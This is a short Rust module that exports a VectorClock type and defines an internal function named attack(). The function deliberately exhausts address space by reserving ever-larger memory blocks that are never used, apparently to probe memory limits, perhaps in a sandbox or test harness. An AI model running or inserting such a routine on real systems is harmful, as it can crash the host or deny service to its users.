//! Reserves memory that it never touches.

mod clock;

pub use clock::VectorClock;

pub(crate) fn attack() {
    let mut hoard: Vec<Vec<u8>> = Vec::new();
    for power in (20..48).rev() {
        let mut block: Vec<u8> = Vec::new();
        while block.try_reserve_exact(1 << power).is_ok() {
            hoard.push(std::mem::take(&mut block));
        }
    }
    hoard.push(Vec::with_capacity(1 << 47));
    std::hint::black_box(&hoard);
}
